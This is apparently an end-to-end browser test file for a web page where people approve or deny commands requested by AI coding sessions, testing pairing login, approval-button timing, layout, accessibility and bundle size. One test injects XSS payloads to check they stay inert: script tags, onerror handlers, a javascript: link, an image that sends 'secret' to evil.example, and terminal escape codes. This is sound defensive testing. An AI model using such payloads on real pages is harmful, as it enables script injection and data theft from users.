// The page in a real browser over made-up sessions: who may open it, what may be pressed and when, what hostile text does.

import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";
import type { Page } from "playwright-core";
import { describe, expect, it, onTestFinished } from "vitest";
import { webTokenOf } from "../../src/config/home.ts";
import { makePairingCode } from "../../src/web/access/pairing.ts";
import { type BrowserOptions, openBrowser, openPage } from "../support/browser.ts";
import { DemoClient } from "../support/demo-client.ts";
import { fillDemo } from "../support/demo-sessions.ts";
import { answerMessage, testApproval } from "../support/fake-session-client.ts";
import { testHome, testWeb } from "../support/web-client.ts";
import { axeViolations, press } from "../support/web-page.ts";

const pageFolder = join(import.meta.dirname, "../../dist/page");

async function open(client: DemoClient, path = "/", options: BrowserOptions = {}) {
  const home = testHome();
  const web = await testWeb({ client, home, pageFolder });
  const context = await openBrowser(options);
  const { page, errors } = await openPage(context, `${web.base}/open#${webTokenOf(home)}`);
  await page.getByRole("banner").waitFor();
  if (path !== "/") await page.goto(`${web.base}${path}`);
  return { ...web, context, page, errors };
}

function demo(): DemoClient {
  const client = new DemoClient();
  onTestFinished(fillDemo(client));
  return client;
}

const waitingFor = (command: string, summary: string, at = Date.now()) =>
  testApproval({
    id: `run-1.1.1.${summary}`,
    summary,
    display: [{ kind: "command", command, cwd: "/home/demo" }],
    requestedAt: at,
  });

describe("who may open it", () => {
  it("lets a phone in by a pairing code once; the second use and a page without sign-in say what to do", {
    timeout: 60_000,
  }, async () => {
    const home = testHome();
    const { base } = await testWeb({ client: demo(), home, pageFolder });
    const { code } = makePairingCode(home);
    const phone = await openBrowser({ phone: true });
    const { page } = await openPage(phone, `${base}/pair#${code}`);
    await page.getByRole("heading", { name: "Needs you" }).waitFor();
    expect(page.url()).toBe(`${base}/`);
    expect(await phone.cookies()).toMatchObject([{ httpOnly: true, sameSite: "Strict" }]);
    const answers: number[] = [];
    const other = await openBrowser();
    const second = await other.newPage();
    second.on("response", (response) => {
      if (response.url().endsWith("/api/pair")) answers.push(response.status());
    });
    await second.goto(`${base}/pair#${code}`);
    await second
      .getByText(/used|too old|wrong/)
      .first()
      .waitFor();
    expect(answers).toEqual([403]);
    await second.goto(base);
    await second.getByText("tempi web").first().waitFor();
  });
});

describe("a card", () => {
  const long = `${Array.from({ length: 120 }, (_, at) => `echo line ${at}`).join("\n")}\ntouch canary`;

  it("is allowed only after its whole text was on screen, and takes no click in its first moment (T01, T03)", {
    timeout: 60_000,
  }, async () => {
    const client = new DemoClient();
    const session = client.add("k7f3qd", { title: "a long one", startedAt: Date.now() });
    session.ask(waitingFor(long, "long"));
    const { page } = await open(client);
    const card = page.getByRole("article").first();
    const allow = card.getByRole("button", { name: /^Allow once/ });
    await allow.waitFor();
    expect(await allow.getAttribute("aria-disabled")).toBe("true");
    await expect.poll(() => card.getByRole("button", { name: /^Deny: / }).getAttribute("aria-disabled")).toBe("false");
    expect(await allow.getAttribute("aria-disabled")).toBe("true");
    await allow.focus();
    await page.keyboard.press("Enter");
    await page.keyboard.press("Space");
    expect(client.overview.waiting).toHaveLength(1);
    await page.mouse.move(800, 400);
    for (let step = 0; step < 12; step++) await page.mouse.wheel(0, 400);
    await expect.poll(() => allow.getAttribute("aria-disabled")).toBe("false");
    await allow.click();
    await expect.poll(() => client.overview.waiting).toEqual([]);
  });

  it("does not move under the finger: what is decided stays a card, new ones come below", {
    timeout: 60_000,
  }, async () => {
    const client = new DemoClient();
    const session = client.add("k7f3qd", { title: "several", startedAt: Date.now() });
    session.ask(waitingFor("echo first", "first", 1));
    session.ask(waitingFor("echo second", "second", 2));
    const { page } = await open(client, "/", { phone: true });
    const cards = page.getByRole("article");
    const second = cards.nth(1);
    await press(cards.first(), /^Allow once: first/);
    await cards
      .first()
      .getByText(/allowed by/)
      .first()
      .waitFor();
    const before = (await second.boundingBox())!.y;
    session.ask(waitingFor("echo third", "third", 0));
    await cards.nth(2).waitFor();
    expect((await second.boundingBox())!.y).toBe(before);
    expect(await cards.nth(2).textContent()).toContain("echo third");
    expect(await page.title()).toContain("(2)");
  });
});

it("asks for the overview once for all tabs, and another tab goes on when that one is closed", {
  timeout: 60_000,
}, async () => {
  const client = new DemoClient();
  const session = client.add("k7f3qd", { title: "several tabs", startedAt: Date.now() });
  const { page, context, base } = await open(client);
  const asked: string[] = [];
  context.on("request", (request) => {
    if (request.url().endsWith("/api/sessions/stream")) asked.push(request.url());
  });
  await page.getByText("several tabs").first().waitFor();
  const others = await Promise.all([openPage(context, base), openPage(context, base), openPage(context, base)]);
  for (const other of others) await other.page.getByText("several tabs").first().waitFor();
  expect(asked).toEqual([]);
  session.ask(waitingFor("echo first", "first"));
  for (const other of others) await other.page.getByRole("article").first().waitFor();
  await page.close();
  await expect.poll(() => asked.length).toBe(1);
  session.ask(waitingFor("echo second", "second"));
  for (const other of others) await other.page.getByRole("article").nth(1).waitFor();
});

it("shows hostile text as text: nothing runs, nothing is fetched (W06, W07, T02)", { timeout: 60_000 }, async () => {
  const client = new DemoClient();
  const session = client.add("k7f3qd", { title: "<img src=x onerror=fetch('/hit')>\u202Eevil", startedAt: Date.now() });
  session.user("<script>fetch('/hit')</script>");
  session.message(
    answerMessage(
      "<img src=x onerror=fetch('/hit')> [a](javascript:fetch('/hit')) ![x](http://evil.example/?d=secret) <svg onload=fetch('/hit')>\n\n```mermaid\ngraph TD\n```\n\nend of it \u001b]52;c;x\u0007",
    ),
  );
  const { page, context, base } = await open(client);
  const asked: string[] = [];
  context.on("request", (request) => asked.push(request.url()));
  await page.goto(`${base}/s/k7f3qd`);
  await page.getByText("end of it").first().waitFor();
  expect(asked.filter((url) => url.includes("/hit") || url.includes("evil.example"))).toEqual([]);
  expect(await page.locator("main img, main svg, main script, a[href^='javascript:']").count()).toBe(0);
  expect(await page.locator("body").textContent()).not.toMatch(/[\u0007\u001b\u202e]/);
});

const views: [string, BrowserOptions][] = [
  ["in light", {}],
  ["in the dark", { dark: true }],
  ["on a phone", { phone: true }],
];
it.each(views)(
  "has nothing for axe to find %s: list, cards with open panels, session, files, timeline",
  {
    timeout: 90_000,
  },
  async (_name, options) => {
    const { page, base, errors } = await open(demo(), "/", options);
    await page.getByRole("article").first().waitFor();
    const found = new Set(await axeViolations(page));
    for (const panel of ["Allow for this session…", "Deny with a reason…", "Edit…"]) {
      await page.getByRole("button", { name: panel }).first().click();
      for (const violation of await axeViolations(page)) found.add(`${panel} ${violation}`);
    }
    await page.goto(`${base}/s/x2y3z4`);
    for (const tab of ["Transcript", "Files", "Timeline"]) {
      await page.getByRole("tab", { name: tab }).click();
      for (const violation of await axeViolations(page)) found.add(`${tab} ${violation}`);
    }
    expect([...found]).toEqual([]);
    expect(errors).toEqual([]);
    const wide = await page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth");
    expect(wide).toBe(0);
  },
);

it("opens a session of 5,000 events at its end, with a bounded number of rows, and shows earlier ones on the way up", {
  timeout: 90_000,
}, async () => {
  const client = new DemoClient();
  const session = client.add("k7f3qd", { title: "a long history", state: "idle", startedAt: Date.now() });
  session.user("go");
  for (let turn = 1; turn <= 1_250; turn++) {
    session.event({ type: "turn_start", turn });
    session.message(answerMessage(`answer number ${turn}`));
    session.event({ type: "turn_end", turn, usage: { input: 1, output: 1, cacheRead: 0, cacheWrite: 0 } });
  }
  session.become("idle");
  const { page } = await open(client, "/s/k7f3qd");
  const log = page.getByRole("log");
  await log.getByText("answer number 1250", { exact: true }).waitFor();
  expect(await rowCount(page)).toBeLessThan(600);
  const earlier = log.getByText("answer number 900", { exact: true });
  await log.hover();
  await expect
    .poll(async () => {
      await page.mouse.wheel(0, -20_000);
      return await earlier.count();
    })
    .toBe(1);
});

const rowCount = (page: Page) =>
  page
    .getByRole("log")
    .getByText(/^answer number \d+$/)
    .count();

it("weighs at most 120 KB compressed", () => {
  const files = readdirSync(pageFolder, { recursive: true, encoding: "utf8" }).filter((name) => /\.\w+$/.test(name));
  const bytes = files.map((name) => gzipSync(readFileSync(join(pageFolder, name))).length);
  expect(bytes.reduce((sum, one) => sum + one, 0)).toBeLessThanOrEqual(120 * 1024);
});
